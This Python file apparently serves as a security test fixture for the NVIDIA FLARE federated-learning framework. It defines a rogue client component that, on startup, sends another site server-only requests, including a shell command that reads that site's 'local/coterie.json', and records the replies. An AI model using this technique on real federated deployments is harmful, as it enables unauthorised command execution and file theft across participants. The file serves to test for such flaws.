"""Runs in the process of a site that has a kit and ill intent: asks another site what only a server may ask."""

from __future__ import annotations

import json
import threading
from pathlib import Path
from typing import Any

from nvflare.apis.event_type import EventType
from nvflare.apis.fl_component import FLComponent
from nvflare.private.admin_defs import Message
from nvflare.private.defs import CellChannel, SysCommandTopic, TrainingTopic, new_cell_message


class Rogue(FLComponent):
    """Leaves what it was told in its own folder."""

    def handle_event(self, event_type: str, fl_ctx: Any) -> None:
        if event_type == EventType.SYSTEM_START:
            cell = fl_ctx.get_engine().get_cell()
            threading.Thread(target=self._ask, args=(cell, Path.cwd()), daemon=True).start()

    def _ask(self, cell: Any, folder: Path) -> None:
        found = {}
        for topic, body in ((TrainingTopic.CHECK_STATUS, ""), (SysCommandTopic.SHELL, "cat local/coterie.json")):
            request = new_cell_message({}, Message(topic=topic, body=body))
            reply = cell.send_request(CellChannel.CLIENT_MAIN, topic, "site-2", request, timeout=5.0)
            found[topic] = str(reply.payload.body if isinstance(reply.payload, Message) else reply.payload)
        (folder / "told.tmp").write_text(json.dumps(found))
        (folder / "told.tmp").rename(folder / "told.json")
